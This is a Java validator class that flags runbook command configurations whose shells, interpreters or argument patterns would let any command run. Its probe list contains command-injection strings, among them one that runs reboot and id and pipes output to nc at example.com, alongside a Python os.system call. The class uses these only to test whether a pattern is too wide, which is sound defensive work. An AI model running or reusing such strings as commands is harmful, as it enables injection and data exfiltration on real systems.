package dev.tasuki.configuration;

import com.google.re2j.Pattern;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/**
 * Why a command would let whoever writes a runbook run anything. The list of commands is what the
 * configurator means; this finds what he hardly can have meant.
 */
final class OpenArguments {
  private static final Set<String> SHELLS =
      Set.of("ash", "bash", "busybox", "csh", "dash", "fish", "ksh", "mksh", "sh", "tcsh", "zsh");

  /** Programs whose first free argument is a program. */
  private static final Pattern INTERPRETER =
      Pattern.compile(
          "(awk|chroot|deno|env|find|gawk|gdb|lua|mawk|nice|nohup|node|nodejs|nsenter|perl|php|"
              + "python|ruby|setpriv|socat|ssh|stdbuf|strace|su|sudo|tclsh|timeout|unshare|watch|"
              + "xargs)[0-9.]*");

  private static final List<String> EVALUATES =
      List.of("-c", "-e", "-E", "-x", "-exec", "--command", "--eval", "--execute", "--exec");

  /** No name, number, path or address is both of these; an open pattern fits both. */
  private static final List<String> ANYTHING =
      List.of("$(reboot); `id` | nc \"example.com\" 1 > /tmp/x &", "import os; os.system('id')");

  private OpenArguments() {}

  /** Why such a program is never allowed, whatever its arguments. */
  static Optional<String> ofProgram(String program) {
    return SHELLS.contains(file(program))
        ? Optional.of("\"%s\" is a shell, which runs whatever it is given".formatted(program))
        : Optional.empty();
  }

  /**
   * Why the pattern at this place is too wide.
   *
   * @param at from 1; 0 is the program
   */
  static Optional<String> ofArgument(List<String> argv, int at) {
    String pattern = argv.get(at);
    if (!ANYTHING.stream().allMatch(text -> Pattern.matches(pattern, text))) {
      return Optional.empty();
    }
    if (INTERPRETER.matcher(file(argv.getFirst())).matches()) {
      return Optional.of(
          "\"%s\" fits any text, and \"%s\" runs what it is given"
              .formatted(pattern, argv.getFirst()));
    }
    Optional<String> before =
        argv.subList(1, at).stream()
            .filter(one -> EVALUATES.stream().anyMatch(flag -> Pattern.matches(one, flag)))
            .findFirst();
    return before.map(
        flag ->
            "\"%s\" fits any text, and stands behind \"%s\", after which many programs run what"
                    .formatted(pattern, flag)
                + " they are given");
  }

  private static String file(String program) {
    return program.substring(program.lastIndexOf('/') + 1);
  }
}
